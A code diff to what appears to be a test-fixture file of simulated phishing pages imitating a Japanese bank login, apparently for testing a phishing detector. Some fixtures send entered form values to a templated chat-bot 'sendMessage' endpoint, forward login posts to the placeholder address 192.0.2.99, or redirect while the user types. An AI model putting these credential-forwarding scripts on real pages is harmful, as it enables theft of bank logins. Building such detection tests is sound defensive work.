@@ -34,6 +34,9 @@ document.querySelector('form').onsubmit = event => {
   if (!luhn(event.target.card.value)) { event.preventDefault(); told.textContent =
     'カード番号が正しくありません。'; } };
 """
+LEAVES = """
+document.querySelector('input').oninput = () => { location = '{{honest-login/}}'; };
+"""
 MESSENGER = f"""{VALUES}
 document.querySelector('button').onclick = () => fetch(
   '{{{{messenger/bot000:TEST/sendMessage}}}}?chat_id=1&text=' + JSON.stringify(values()),
@@ -59,6 +62,8 @@ SITES: dict[str, Site] = {
     | {"/code": page("例銀行 認証コードの入力", form("/card", "code"))},
     "sends-to-bank": accepts(LOGIN, sends_to("{{bank/}}")),
     "sends-to-bank-307": accepts(LOGIN, sends_to("{{bank/in}}", 307)),
+    "sends-to-address-307": accepts(LOGIN, sends_to("http://192.0.2.99/in", 307)),
+    "leaves-while-typed": accepts(page(TITLE, login_form(), script(LEAVES))),
     "sends-to-bank-script": accepts(LOGIN, page("…", script("location = '{{bank/}}'"))),
     "sends-to-bank-refresh": accepts(
         LOGIN, page("…", head='<meta http-equiv="refresh" content="0;url={{bank/}}">')
